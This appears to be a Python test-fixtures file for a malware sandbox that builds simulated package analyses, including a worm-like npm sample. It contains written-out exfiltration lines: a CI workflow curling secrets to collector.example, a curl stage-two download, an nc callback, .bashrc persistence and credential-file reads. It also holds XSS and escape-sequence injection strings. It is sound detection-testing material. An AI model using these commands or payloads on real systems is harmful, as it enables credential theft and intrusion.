"""Made-up analyses that every format is shown: malicious, benign, unknown, read only, and hostile to its reader."""

# ruff: noqa: PLR0917 - rows of a table

import hashlib
from pathlib import Path

from msgspec.structs import replace

from biopsy.detect import compare
from biopsy.model.behaviour import Behaviour, By, InFile, InRegistry, InTrace, Kind, When
from biopsy.model.comparison import Comparison, Difference, Facet, Side
from biopsy.model.dossier import Analysis, Call, Dossier, Finding, Level, Tool, Verdict
from biopsy.model.release import Artifact, Release
from biopsy.model.run import Change, Exchange, FileChange, Outcome, Process, Status, Step, Watch

TOOL = Tool("0.1.0", "rules-5c2f01d7", "9d41c0ffee12", "release-20240729.0", "systrap")
HOME = "/home/ada"

BODY = """POST /v1/collect HTTP/1.1
host: collector.example
content-type: application/json
user-agent: node

{
  "host": "adas-thinkpad",
  "user": "ada",
  "npm": "//registry.invalid/:_authToken=npm_SIMULATED0000000000000000000000000000",
  "aws": {"id": "AKIASIMULATED0000000", "secret": "simulated/not/a/secret/at/all/0000000000"},
  "env": {"GITHUB_TOKEN": "ghp_SIMULATED000000000000000000000000000", "CI": "false"}
}"""

WORKFLOW = """name: format
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "${{ toJSON(secrets) }}" https://collector.example/ci
"""


def behaviour(kind: str, value: str, where: str, **more: object) -> Behaviour:
    """A behaviour from its parts, the place in its text form."""
    read = Behaviour.parse(f"{kind} x @ {where}")
    return replace(read, value=value, **more)


def artifact(filename: str, kind: str, *, verified: bool = True, size: int = 18_734) -> Artifact:
    return Artifact(
        filename,
        kind,
        Path("/nowhere") / filename,
        size,
        hashlib.sha256(filename.encode()).hexdigest(),
        verified,
    )


def _processes(profile: str, first: int, home: str, at: float) -> tuple[Process, ...]:
    def one(
        number: int,
        parent: int | None,
        phase: str,
        argv: tuple[str, ...],
        start: float,
        took: float | None,
        **more: object,
    ) -> Process:
        above = None if parent is None else first + parent
        end = None if took is None else at + start + took
        more.setdefault("exit", None if took is None else 0)
        return Process(
            first + number, above, profile, phase, argv, f"{home}/project", at + start, end, **more
        )

    return (
        one(0, None, "install", ("node", "/usr/bin/npm", "install", "/tmp/sim-palette-2.4.1.tgz"), 0.1, 5.2, by=By.TOOL, owner="npm"),
        one(1, 0, "install", ("sh", "-c", "node bundle.js"), 1.9, 3.1, by=By.TOOL, owner="npm"),
        one(2, 1, "install", ("node", "bundle.js"), 2.0, 3.0),
        one(3, 2, "install", ("/bin/sh", "-c", "uname -a; id; cat /etc/os-release"), 2.3, 0.1),
        one(4, 3, "install", ("uname", "-a"), 2.31, 0.02),
        one(5, 3, "install", ("id",), 2.33, 0.02),
        one(6, 3, "install", ("cat", "/etc/os-release"), 2.35, 0.02),
        one(7, 2, "install", ("curl", "-sSL", "https://cdn.collector.example/stage2.sh", "-o", "/tmp/.cache-7f"), 2.9, 0.4),
        one(8, 2, "install", ("sh", "/tmp/.cache-7f"), 3.4, None),
        one(9, 0, "install", ("node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js", "rebuild"), 1.0, 0.6, by=By.TOOL, owner="node-gyp"),
        one(10, 9, "install", ("node", "node_modules/kind-of/index.js"), 1.2, 0.1, by=By.DEPENDENCY, owner="kind-of"),
        one(11, None, "import", ("node", "/usr/local/lib/project-tools/require.cjs", "sim-palette"), 5.6, 0.7, by=By.TOOL, owner="driver"),
        one(12, 11, "import", ("node", "-e", "import('sim-palette/lib/index.mjs')"), 5.8, 0.3),
        one(13, 11, "import", ("node", "-e", "import('sim-palette/lib/legacy.js')"), 6.1, 0.1, exit=-11),
        one(14, None, "execute", ("node", "/usr/local/lib/project-tools/execute.mjs", "sim-palette"), 6.6, 15.0, by=By.TOOL, owner="driver", exit=1),
    )  # fmt: skip


def _seen(profile: str, first: int, home: str) -> tuple[Behaviour, ...]:
    def b(
        kind: str, value: str, phase: str, seq: int, process: int, time: float, **more: object
    ) -> Behaviour:
        return behaviour(kind, value, f"{profile}/{phase}#{seq}", process=first + process, time=time, **more)

    return (
        b("process.exec", "npm install /tmp/sim-palette-2.4.1.tgz", "install", 1, 0, 0.1, by=By.TOOL, owner="npm"),
        b("process.exec", "node bundle.js", "install", 4, 2, 2.0),
        b("env.read", "*", "install", 5, 2, 2.1),
        b("env.host", "hostname", "install", 6, 2, 2.2),
        b("process.exec", "/bin/sh -c 'uname -a; id; cat /etc/os-release'", "install", 7, 3, 2.3),
        b("file.read", f"{home}/.npmrc", "install", 11, 2, 2.5),
        b("canary.read", "npm-token", "install", 12, 2, 2.5),
        b("file.read", f"{home}/.aws/credentials", "install", 13, 2, 2.6),
        b("canary.read", "aws-secret", "install", 14, 2, 2.6),
        b("file.read", f"{home}/.ssh/id_ed25519", "install", 15, 2, 2.6),
        b("canary.read", "ssh-key", "install", 16, 2, 2.6),
        b("net.dns", "collector.example", "install", 20, 2, 2.7),
        b("net.connect", "collector.example:443", "install", 21, 2, 2.7),
        b("net.http", "POST https://collector.example/v1/collect", "install", 22, 2, 2.8, detail=BODY),
        b("canary.leak", "npm-token > collector.example:443 as clear", "install", 23, 2, 2.8),
        b("canary.leak", "aws-secret > collector.example:443 as base64", "install", 24, 2, 2.8),
        b("net.dns", "bnbw2x3tnfwxk3dborswi.t.collector.example TXT", "install", 25, 2, 2.85),
        b("canary.leak", "ssh-key > t.collector.example:53 as base32, split over DNS labels", "install", 26, 2, 2.85),
        b("process.exec", "curl -sSL https://cdn.collector.example/stage2.sh -o /tmp/.cache-7f", "install", 30, 7, 2.9),
        b("net.http", "GET https://cdn.collector.example/stage2.sh", "install", 32, 7, 3.1),
        b("code.remote", "https://cdn.collector.example/stage2.sh", "install", 35, 8, 3.4),
        b("file.write", f"{home}/project/.github/workflows/format.yml", "install", 36, 2, 3.6),
        b("file.write", f"{home}/.bashrc", "install", 37, 8, 3.7),
        b("net.connect", "203.0.113.9:4444", "install", 40, 8, 4.1),
        b("file.read", "/sys/class/dmi/id/product_name", "import", 60, 12, 5.9),
        b("evasion.fingerprint", "dmi product name", "import", 61, 12, 5.9),
        b("evasion.sleep", "300", "execute", 80, 14, 7.2),
        b("process.crash", "SIGSEGV node -e import('sim-palette/lib/legacy.js')", "import", 66, 13, 6.2),
    )  # fmt: skip


def _said(profile: str, first: int) -> tuple[Exchange, ...]:
    def x(
        protocol: str,
        host: str,
        port: int,
        summary: str,
        time: float,
        process: int,
        phase: str = "install",
        **more: object,
    ) -> Exchange:
        return Exchange(
            profile, phase, protocol, host, port, summary, time=time, process=first + process, **more
        )

    return (
        x("https", "registry.invalid", 443, "GET /kind-of", 0.6, 0, sent=412, received=20_113, by=By.TOOL, gateway=True),
        x("https", "registry.invalid", 443, "GET /kind-of/-/kind-of-6.0.3.tgz", 0.8, 0, sent=420, received=7_331, by=By.TOOL, gateway=True),
        x("dns", "collector.example", 53, "A collector.example", 2.7, 2, response="198.51.100.7", sent=35, received=51),
        x("https", "collector.example", 443, "POST /v1/collect", 2.8, 2, request=BODY, response="HTTP/1.1 200 OK\ncontent-type: application/json\n\n{}", sent=1_204, received=88),
        x("dns", "bnbw2x3tnfwxk3dborswi.t.collector.example", 53, "TXT bnbw2x3tnfwxk3dborswi.t.collector.example", 2.85, 2, sent=71, received=90),
        x("dns", "mfrggzdfmztwq2lknnwg.t.collector.example", 53, "TXT mfrggzdfmztwq2lknnwg.t.collector.example", 2.86, 2, sent=71, received=90),
        x("https", "cdn.collector.example", 443, "GET /stage2.sh", 3.1, 7, request="GET /stage2.sh HTTP/1.1\nhost: cdn.collector.example\nuser-agent: curl/7.88.1", response="#!/bin/sh\n# simulated\n", sent=96, received=1_900),
        x("tcp", "203.0.113.9", 4444, "SIM/1.0 hello adas-thinkpad", 4.1, 8, request="SIM/1.0 hello adas-thinkpad\\n", sent=28, received=0),
        x("http", "169.254.169.254", 80, "GET /latest/meta-data/iam/security-credentials/", 3.9, 8, request="GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\nhost: 169.254.169.254", response="HTTP/1.1 200 OK\n\nsim-role", sent=120, received=210),
    )  # fmt: skip


def _changed(profile: str, home: str) -> tuple[FileChange, ...]:
    return (
        FileChange(profile, f"{home}/project/.github/workflows/format.yml", Change.CREATED, len(WORKFLOW), hashlib.sha256(WORKFLOW.encode()).hexdigest(), WORKFLOW, 0o644),
        FileChange(profile, f"{home}/.bashrc", Change.CHANGED, 3_812, "ab" * 32, "# ~/.bashrc\n…\n(sh /tmp/.cache-7f >/dev/null 2>&1 &)\n", 0o644),
        FileChange(profile, "/tmp/.cache-7f", Change.CREATED, 1_900, "cd" * 32, "#!/bin/sh\n# simulated\necho hello | nc 203.0.113.9 4444\n", 0o755),
        FileChange(profile, f"{home}/.bash_history", Change.DELETED),
        FileChange(profile, f"{home}/project/node_modules/sim-palette/index.js", Change.CREATED, 2_044, "ef" * 32, "module.exports = require('./lib');\n", 0o644, By.TOOL),
        FileChange(profile, f"{home}/project/package-lock.json", Change.CREATED, 1_011, "01" * 32, '{\n  "lockfileVersion": 3\n}\n', 0o644, By.TOOL),
    )  # fmt: skip


def _outcomes(profile: str, *, late: bool) -> tuple[Outcome, ...]:
    steps = (
        Step("sim-palette (require)", Status.COMPLETED, "", 0.2),
        Step("sim-palette (import)", Status.COMPLETED, "", 0.3),
        Step("sim-palette/lib/index.mjs", Status.COMPLETED, "", 0.3),
        Step("sim-palette/lib/legacy.js", Status.CRASHED, "SIGSEGV", 0.1),
        Step("sim-palette/lib/optional.js", Status.FAILED, "Error: Cannot find module 'react'", 0.1),
    )
    calls = tuple(
        Step(f"palette.{name}", Status.COMPLETED, "", 0.01) for name in ("hex", "rgb", "mix", "blend")
    )
    end = Outcome(profile, "execute", Status.COMPLETED, "", 0.9, calls)
    if late:
        end = Outcome(profile, "execute", Status.TIMEOUT, "timeout: still asleep after 15 s", 15.0, (*calls, Step("palette.wait", Status.TIMEOUT, "15 s", 15.0)), "called hex\ncalled rgb\n")  # fmt: skip
    return (
        Outcome(profile, "install", Status.COMPLETED, "", 5.2, (), "added 2 packages in 5s\n"),
        Outcome(profile, "import", Status.COMPLETED, "", 1.0, steps),
        Outcome(profile, "bins", Status.SKIPPED, "no-bins: package.json names none", 0.0),
        end,
    )


STATIC = (
    behaviour("pkg.hook", "npm:postinstall node bundle.js", "package.json"),
    behaviour("pkg.dependency", "kind-of@^6.0.0", "package.json"),
    behaviour("pkg.release", "newest", "registry"),
    behaviour(
        "code.obfuscated",
        "string-array",
        "bundle.js:1 (install)",
        detail="var _0x4f2a=['\\x68\\x6f\\x73\\x74', …]",
    ),
    behaviour(
        "code.decode", "base64", "bundle.js:3 (install)", detail="https://cdn.collector.example/stage2.sh"
    ),
    behaviour("net.url", "https://collector.example/v1/collect", "bundle.js:3 (install)"),
    behaviour("code.flow", "secret > network", "bundle.js:41 (install)"),
    behaviour("code.eval", "Function", "bundle.js:44 (install)"),
    behaviour("env.read", "*", "bundle.js:12 (install)"),
    behaviour("file.read", "~/.npmrc", "bundle.js:19 (install)"),
    behaviour("code.import", "require(name)", "lib/legacy.js:7 (import)"),
    behaviour("pkg.malformed", "lib/broken.js SyntaxError", "lib/broken.js"),
)


def _finding(rule: str, title: str, evidence: tuple[Behaviour, ...], attack: tuple[str, ...], why: str, *, severity: Level = Level.HIGH, confidence: Level = Level.HIGH, status: str = "stable", convicts: bool = True) -> Finding:  # fmt: skip
    return Finding(
        rule, title, severity, confidence, status, attack, why, rule.partition("/")[0], evidence, convicts
    )


def before() -> Analysis:
    """The release before the malicious one, which did nothing of the sort; one phase of it did not finish."""
    dossier = Dossier(
        run_id="20261101-101500-0f0f0f0f",
        release=Release("npm", "@sim/palette", "2.4.0"),
        artifact=artifact("sim-palette-2.4.0.tgz", "tgz"),
        behaviours=(
            behaviour("pkg.dependency", "kind-of@^5.0.0", "package.json"),
            behaviour("code.import", "require(name)", "lib/legacy.js:7 (import)"),
            behaviour("process.exec", "uname -a", "laptop/install#2"),
            behaviour("env.read", "PALETTE_THEME", "lib/index.js:2 (import)"),
        ),
        outcomes=_outcomes("laptop", late=True),
        created="2026-11-01T10:15:00Z",
        tool=TOOL,
    )
    return Analysis(dossier, (), Verdict(Call.UNKNOWN, "Nothing worrying was found, but a phase timed out."))


def malicious() -> Analysis:
    """A worm-like npm simulant that both profiles saw, one of them to its end."""
    laptop, actions = _seen("laptop", 100, HOME), _seen("github-actions", 200, "/home/runner")
    seen = (*laptop, *actions)

    def of(kind: Kind, start: str = "", among: tuple[Behaviour, ...] = seen) -> tuple[Behaviour, ...]:
        return tuple(b for b in among if b.kind is kind and b.value.startswith(start))

    findings = (
        _finding("exfil/canary-leak", "A planted credential left the sandbox", of(Kind.CANARY_LEAK), ("T1552.001", "T1041"),
                 "A credential that exists only in this run was read and then seen in what the package sent out. Nothing but theft explains it."),
        _finding("execution/remote-code", "Runs bytes that it fetched", (*of(Kind.NET_HTTP, "GET", laptop), *of(Kind.CODE_REMOTE, "", laptop)), ("T1105", "T1059.004"),
                 "What ran was not in the package that was published: it came from the network after the install began."),
        _finding("persistence/ci-workflow", "Writes a CI workflow", of(Kind.FILE_WRITE, f"{HOME}/project/.github"), ("T1546",),
                 "A package has no business in another project's CI configuration: this is how worms spread."),
        _finding("exfil/secret-flow", "A secret flows to the network in code that runs at install", of(Kind.CODE_FLOW, "", STATIC), ("T1041",),
                 "Reading alone shows a value taken from a credential file arriving at a request.", confidence=Level.MEDIUM, convicts=False),
        _finding("evasion/long-sleep", "Sleeps for longer than anyone watches", of(Kind.EVASION_SLEEP), ("T1497.003",),
                 "A long sleep outlasts a sandbox.", severity=Level.MEDIUM, confidence=Level.LOW, convicts=False),
        _finding("obfuscation/string-array", "Strings hidden in a shuffled array", of(Kind.CODE_OBFUSCATED, "", STATIC), ("T1027",),
                 "Bundlers do this too: a fact, not a judgement.", severity=Level.LOW, confidence=Level.LOW, status="draft", convicts=False),
    )  # fmt: skip
    dossier = Dossier(
        run_id="20261122-021500-sim-palette-3f9a",
        release=Release("npm", "@sim/palette", "2.4.1"),
        artifact=artifact("sim-palette-2.4.1.tgz", "tgz"),
        behaviours=(*STATIC, *seen),
        outcomes=(*_outcomes("laptop", late=True), *_outcomes("github-actions", late=False)),
        processes=(*_processes("laptop", 100, HOME, 0.0), *_processes("github-actions", 200, "/home/runner", 0.0)),
        exchanges=(*_said("laptop", 100), *_said("github-actions", 200)),
        changes=(*_changed("laptop", HOME), *_changed("github-actions", "/home/runner")),
        watches=(
            Watch("laptop", events=18_204, files_read=3_911),
            Watch("github-actions", events=17_998, dropped=12, malformed=1, files_read=3_870, notes=("the sink fell behind once",)),
        ),
        created="2026-11-22T02:15:00Z",
        duration_s=27.4,
        tool=TOOL,
    )  # fmt: skip
    reason = "Credentials planted for this run were sent to collector.example, and code fetched from there was run."
    because = ("exfil/canary-leak", "execution/remote-code", "persistence/ci-workflow")
    return Analysis(
        dossier,
        findings,
        Verdict(Call.MALICIOUS, reason, because, ("exfil", "execution", "persistence")),
        comparison=compare(before().dossier, dossier),
    )


def benign() -> Analysis:
    """A well-behaved wheel: everything completed, nothing said but to the registry."""
    behaviours = (
        behaviour("pkg.entry", "console_scripts calm=calm.cli:main", "calm-1.2.0.dist-info/entry_points.txt"),
        behaviour("env.read", "NO_COLOR", "calm/term.py:8 (import)"),
        behaviour("file.read", "/etc/os-release", "laptop/import#7", process=2, time=2.0),
    )
    outcomes = tuple(
        Outcome(profile, phase, Status.COMPLETED, "", took, steps)
        for profile in ("laptop", "github-actions")
        for phase, took, steps in (
            ("install", 2.4, ()),
            ("start", 0.2, ()),
            ("import", 1.1, tuple(Step(f"calm.{n}", Status.COMPLETED, "", 0.2) for n in ("cli", "term", "text"))),
            ("scripts", 0.3, (Step("calm --help", Status.COMPLETED, "", 0.3),)),
            ("execute", 1.9, (Step("calm.text.wrap", Status.COMPLETED, "", 0.0), Step("calm.text.Pad", Status.FAILED, "TypeError: width must be a number"))),
        )
    )  # fmt: skip
    dossier = Dossier(
        run_id="20261122-021600-calm-77aa",
        release=Release("pypi", "calm", "1.2.0"),
        artifact=artifact("calm-1.2.0-py3-none-any.whl", "wheel", size=9_204),
        behaviours=behaviours,
        outcomes=outcomes,
        processes=(
            Process(1, None, "laptop", "install", ("pip", "install", "/tmp/calm-1.2.0-py3-none-any.whl"), HOME, 0.1, 2.4, 0, By.TOOL, "pip"),
            Process(2, None, "laptop", "import", ("python3", "-c", "import calm.term"), HOME, 2.6, 2.9, 0),
        ),
        watches=(Watch("laptop", events=4_120, files_read=812), Watch("github-actions", events=4_098, files_read=811)),
        created="2026-11-22T02:16:00Z",
        duration_s=11.9,
        tool=TOOL,
    )  # fmt: skip
    return Analysis(
        dossier, (), Verdict(Call.BENIGN, "No rule found anything that a harmless package would not do.")
    )


def unknown() -> Analysis:
    """The sandbox broke on the install: nothing can be said, and nothing is."""
    dossier = Dossier(
        run_id="20261122-021700-heavy-01",
        release=Release("pypi", "heavy", "0.9"),
        artifact=artifact("heavy-0.9.tar.gz", "sdist", size=2_400_512),
        behaviours=(behaviour("pkg.hook", "setup.py", "setup.py (install)"),),
        outcomes=(
            Outcome("laptop", "install", Status.FAILED, "build-failed: gfortran is not in the image", 14.0, (), "error: gfortran: command not found\n"),
            Outcome("laptop", "import", Status.SKIPPED, "not-installed", 0.0),
        ),
        watches=(Watch("laptop", events=2_000),),
        created="2026-11-22T02:17:00Z",
        duration_s=15.2,
        tool=TOOL,
    )  # fmt: skip
    reason = (
        "The install did not finish (build-failed), so what the package does when installed is not known."
    )
    return Analysis(dossier, (), Verdict(Call.UNKNOWN, reason))


def read_only() -> Analysis:
    """Static reading only, of a local file that no registry vouches for."""
    dossier = Dossier(
        run_id="20261122-021800-thing-9c",
        release=Release("pypi", "thing", "1.0"),
        artifact=artifact("thing-1.0.tar.gz", "sdist", verified=False, size=3_300),
        behaviours=(
            Behaviour(Kind.PKG_HOOK, "setup.py", InFile("setup.py", 0, When.INSTALL)),
            Behaviour(
                Kind.CODE_EVAL,
                "exec",
                InFile("setup.py", 12, When.INSTALL),
                detail="exec(base64.b64decode(BLOB))",
            ),
            Behaviour(Kind.CODE_FLOW, "decoded > execution", InFile("setup.py", 12, When.INSTALL)),
            Behaviour(Kind.PKG_RELEASE, "first", InRegistry()),
        ),
        outcomes=(),
        created="2026-11-22T02:18:00Z",
        duration_s=0.2,
        tool=Tool("0.1.0", "rules-5c2f01d7"),
        static_only=True,
    )
    finding = _finding("execution/decoded-exec", "Decodes a blob and executes it at install", dossier.behaviours[1:3], ("T1027", "T1059.006"),
                       "Code that hides what it runs until it runs.", confidence=Level.MEDIUM, convicts=False)  # fmt: skip
    reason = "Code that runs at install decodes and executes a blob; nothing was run to see what it does."
    return Analysis(
        dossier, (finding,), Verdict(Call.SUSPICIOUS, reason, ("execution/decoded-exec",), ("execution",))
    )


NASTY = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "{{ 7*7 }}{% raw %}",
    "[bold red]markup[/] [link=https://x.example]x[/link]",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "a\u202egnp.exe\u2066\u200b\u200d\ufeff",
    "line\nbreak\r\n\tand\0nul",
    "javascript:alert(1)",
    "\udcff\ud800 lone",
    "\ufe0f\ufe01\U000e0041\U000e0100" * 20,
    "a @ b \\x41 \\",
    "--></style><style>*{display:none}</style><!--",
    "]]><svg/onload=alert(1)>",
    "\u4e2d\u6587\U0001f600 \u05e9\u05dc\u05d5\u05dd",
    "x" * 5_000,
)  # fmt: skip


def hostile(text: str) -> Analysis:
    """Wherever a package's words can stand, `text` stands."""
    seen = Behaviour(Kind.FILE_READ, text, InTrace("install", 1, "laptop"), 1, 0.5, By.DEPENDENCY, text, text)
    read = Behaviour(Kind.CODE_EVAL, text, InFile(text or "x", 3, When.IMPORT), detail=text)
    dossier = Dossier(
        run_id="20261122-021900-hostile",
        release=Release("npm", text.strip("/") or "x", text),
        artifact=replace(artifact("x.tgz", "tgz"), filename=text),
        behaviours=(seen, read),
        outcomes=(
            Outcome(
                "laptop", "install", Status.FAILED, text, 1.0, (Step(text, Status.CRASHED, text, 0.1),), text
            ),
        ),
        processes=(
            Process(1, None, "laptop", "install", (text, text), text, 0.1, 0.9, 1, By.DEPENDENCY, text),
        ),
        exchanges=(Exchange("laptop", "install", "https", text, 443, text, text, text, 10, 20, 0.5, 1),),
        changes=(FileChange("laptop", text, Change.CREATED, 10, "00" * 32, text, 0o755),),
        watches=(Watch("laptop", events=3, malformed=1, notes=(text,)),),
        created="2026-11-22T02:19:00Z",
        duration_s=1.0,
        tool=TOOL,
    )
    finding = Finding(
        "x/y", text, Level.HIGH, Level.HIGH, "stable", ("T1041",), text, "x", (seen, read), convicts=True
    )
    one = Difference(Facet.SECRET, text, text, text, unasked=True, evidence=(seen, read), more=1)
    side = Side(Release("npm", text.strip("/") or "x", text), text, text, text)
    since = Comparison(side, (one,), (one,), (one,), (text,), note=text if text[:1] == "x" else "")
    verdict = Verdict(Call.MALICIOUS, text, ("x/y",), (text,))
    return Analysis(dossier, (finding,), verdict, comparison=since)


ALL = (malicious(), benign(), unknown(), read_only())
